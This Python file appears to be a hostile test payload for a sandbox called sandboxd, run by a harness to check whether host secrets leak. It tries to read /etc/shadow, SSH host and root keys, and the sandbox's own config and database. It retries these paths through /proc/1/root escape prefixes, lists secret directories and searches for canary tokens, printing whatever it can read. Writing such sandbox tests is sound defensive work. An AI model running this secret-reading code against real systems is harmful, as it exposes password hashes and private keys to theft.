"""Hostile payload (filesystem): read the host's secrets. /etc/shadow, SSH host keys, /root, /home,
sandboxd's own config and database (/etc/sandboxd, /var/lib/sandboxd), the same paths again
through /proc/1/root and /proc/self/root, and every path given as an argument (the harness passes
a host canary file: a config an attacker knows the location of). Then a bounded search of the
usual secret places for anything that looks like a canary token. Whatever is readable is printed,
so a leaked secret shows up in the output. One JSON line per attempt on stdout."""
import errno
import json
import os
import sys
import time

SECRETS = [
    "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key",
    "/etc/ssh/ssh_host_rsa_key", "/etc/sandboxd/config.toml", "/etc/sandboxd/sandboxd.toml",
    "/var/lib/sandboxd/sandboxd.db", "/var/lib/sandboxd/audit.db", "/root/.bash_history",
    "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys", "/proc/1/environ", "/proc/1/cmdline",
]
SECRET_DIRS = ["/root", "/home", "/etc/sandboxd", "/var/lib/sandboxd", "/etc/ssh", "/run",
               "/var/lib", "/srv", "/opt", "/work"]
# Every path is tried as is and through the magic links that once led out of containers.
PREFIXES = ["", "/proc/1/root", "/proc/self/root/../../..", "/proc/self/cwd/../../.."]
SEARCH_ROOTS = ["/tmp", "/var/tmp", "/var/lib", "/etc", "/root", "/home", "/run", "/srv", "/opt",
                "/work", "/dev/shm", "/proc/1/root/tmp", "/proc/1/root/etc"]
SEARCH_BUDGET_S = 3.0


def report(op, ret, err=None, **extra):
    """err: an errno number, or a verdict's name."""
    if isinstance(err, int):
        err = errno.errorcode.get(err, str(err))
    line = {"op": op, "ret": ret, "errno": err or None}
    line.update(extra)
    print(json.dumps(line), flush=True)


def read_secret(path):
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
    except OSError as e:
        report("read_secret", -1, e.errno, path=path)
        return
    # Readable: print it, a canary token in it then shows in the output. The sandbox's init's
    # own entries are PARENT_INIT when init is this program's parent (the gVisor backend's stage
    # shell, which holds only the program's argv and environment); natively init stays hidden.
    own_init = os.path.realpath(path).startswith("/proc/1/") and os.getppid() == 1
    report("read_secret", len(data), "PARENT_INIT" if own_init else None, path=path,
           content=data[:512].decode("utf-8", "replace"))


def list_dir(path):
    try:
        names = os.listdir(path)
    except OSError as e:
        report("list_secret_dir", -1, e.errno, path=path)
        return
    report("list_secret_dir", len(names), path=path, names=sorted(names)[:50])


def search(deadline):
    """Files containing something like a canary token under the usual places."""
    for root in SEARCH_ROOTS:
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            if time.monotonic() > deadline:
                return
            dirnames[:] = [d for d in dirnames if not d.startswith(("proc", "sys"))]
            for name in filenames:
                # Per file too: one directory (/etc/ssl/certs) took 5 s under qemu's emulation.
                if time.monotonic() > deadline:
                    return
                path = os.path.join(dirpath, name)
                try:
                    if not os.path.isfile(path) or os.path.getsize(path) > (1 << 20):
                        continue
                    with open(path, "rb") as f:
                        data = f.read(1 << 20)
                except OSError:
                    continue
                at = data.find(b"CANARY-")
                if at >= 0:
                    report("found_token", len(data), path=path,
                           content=data[at:at + 80].decode("utf-8", "replace"))


for prefix in PREFIXES:
    for path in SECRETS + sys.argv[1:]:
        read_secret(prefix + path)
    for path in SECRET_DIRS:
        list_dir(prefix + path)
# The arguments' directories too: a config usually sits next to its database.
for path in sys.argv[1:]:
    list_dir(os.path.dirname(path))
search(time.monotonic() + SEARCH_BUDGET_S)
